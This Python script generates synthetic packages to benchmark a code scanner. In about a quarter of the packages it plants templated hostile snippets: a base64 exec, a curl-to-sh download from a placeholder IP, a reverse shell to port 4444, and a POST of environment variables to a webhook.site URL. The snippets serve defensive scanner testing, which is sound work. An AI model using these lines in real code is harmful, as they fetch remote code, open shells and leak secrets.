#!/usr/bin/env python3
"""Write a synthetic corpus of small Python packages for throughput runs.

Each package gets a setup.py plus a handful of modules made of ordinary
library-style code; roughly one package in four also receives a few
suspicious statements so the scanner has something to report.

    python scripts/make_synthetic_corpus.py /tmp/synth --packages 200 --files 5
"""

from __future__ import annotations

import argparse
import random
import textwrap
from pathlib import Path

SETUP = '''\
from setuptools import setup, find_packages

setup(
    name="{name}",
    version="{major}.{minor}.{patch}",
    description="Helpers for {topic} pipelines",
    author="{author}",
    packages=find_packages(),
    install_requires=[{deps}],
    python_requires=">=3.8",
)
'''

BENIGN_FUNCS = [
    '''
    def load_{n}(path):
        """Read a file and return the non-empty lines."""
        with open(path, encoding="utf-8") as fh:
            return [line.strip() for line in fh if line.strip()]
    ''',
    '''
    def summarize_{n}(values):
        total = 0
        count = 0
        for v in values:
            if v is None:
                continue
            total += v
            count += 1
        return total / count if count else 0.0
    ''',
    '''
    class Record{n}:
        def __init__(self, key, value=None):
            self.key = key
            self.value = value

        def __repr__(self):
            return f"Record{n}({{self.key!r}}, {{self.value!r}})"

        def merged(self, other):
            return Record{n}(self.key, other.value if other.value is not None else self.value)
    ''',
    '''
    def parse_pairs_{n}(text, sep="="):
        out = {{}}
        for raw in text.splitlines():
            if not raw or raw.startswith("#"):
                continue
            key, _, value = raw.partition(sep)
            out[key.strip()] = value.strip()
        return out
    ''',
    '''
    def chunked_{n}(items, size):
        batch = []
        for item in items:
            batch.append(item)
            if len(batch) == size:
                yield batch
                batch = []
        if batch:
            yield batch
    ''',
]

SUSPICIOUS = [
    '''
    import base64
    payload_{n} = "cHJpbnQoJ2hlbGxvJyk="
    exec(base64.b64decode(payload_{n}))
    ''',
    '''
    import os
    os.system("curl -s http://203.0.113.{n}/x.sh | sh")
    ''',
    '''
    import socket, subprocess
    s{n} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s{n}.connect(("198.51.100.{n}", 4444))
    subprocess.call(["/bin/sh", "-i"], stdin=s{n}.fileno(), stdout=s{n}.fileno())
    ''',
    '''
    import os, requests
    requests.post("https://webhook.site/abc{n}", data=dict(os.environ))
    ''',
]

TOPICS = ("csv", "image", "queue", "config", "report", "metrics", "calendar", "geometry")
DEPS = ('"requests>=2"', '"pyyaml"', '"click"', '"attrs"')


def _module(rng: random.Random, funcs: int, suspicious: bool) -> str:
    parts = ['"""Generated module."""', "", "import os", "import sys", ""]
    for i in range(funcs):
        parts.append(textwrap.dedent(rng.choice(BENIGN_FUNCS).format(n=i)))
    if suspicious:
        parts.append(textwrap.dedent(rng.choice(SUSPICIOUS).format(n=rng.randint(1, 250))))
    return "\n".join(parts)


def write_corpus(root: Path, packages: int = 200, files: int = 5, seed: int = 7, funcs: int = 8) -> int:
    """Create ``packages`` package directories with ``files`` .py files each; return the file count."""
    rng = random.Random(seed)
    root.mkdir(parents=True, exist_ok=True)
    written = 0
    for p in range(packages):
        name = f"synth-{rng.choice(TOPICS)}-{p:04d}"
        pkg_dir = root / name
        mod_dir = pkg_dir / name.replace("-", "_")
        mod_dir.mkdir(parents=True, exist_ok=True)
        shady = rng.random() < 0.25
        deps = ", ".join(rng.sample(DEPS, rng.randint(0, 2)))
        (pkg_dir / "setup.py").write_text(
            SETUP.format(
                name=name, major=rng.randint(0, 3), minor=rng.randint(0, 20), patch=rng.randint(0, 9),
                topic=rng.choice(TOPICS), author=f"dev{p}", deps=deps,
            ),
            encoding="utf-8",
        )
        (mod_dir / "__init__.py").write_text(f'__version__ = "0.{p}.0"\n', encoding="utf-8")
        written += 2
        for f in range(files - 2):
            text = _module(rng, funcs, shady and f == 0)
            (mod_dir / f"mod{f}.py").write_text(text, encoding="utf-8")
            written += 1
    return written


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("root", type=Path)
    ap.add_argument("--packages", type=int, default=200)
    ap.add_argument("--files", type=int, default=5, help="files per package (at least 2)")
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args()
    if args.files < 2:
        ap.error("--files must be at least 2")
    n = write_corpus(args.root, args.packages, args.files, args.seed)
    print(f"wrote {n} files in {args.packages} packages under {args.root}")


if __name__ == "__main__":
    main()
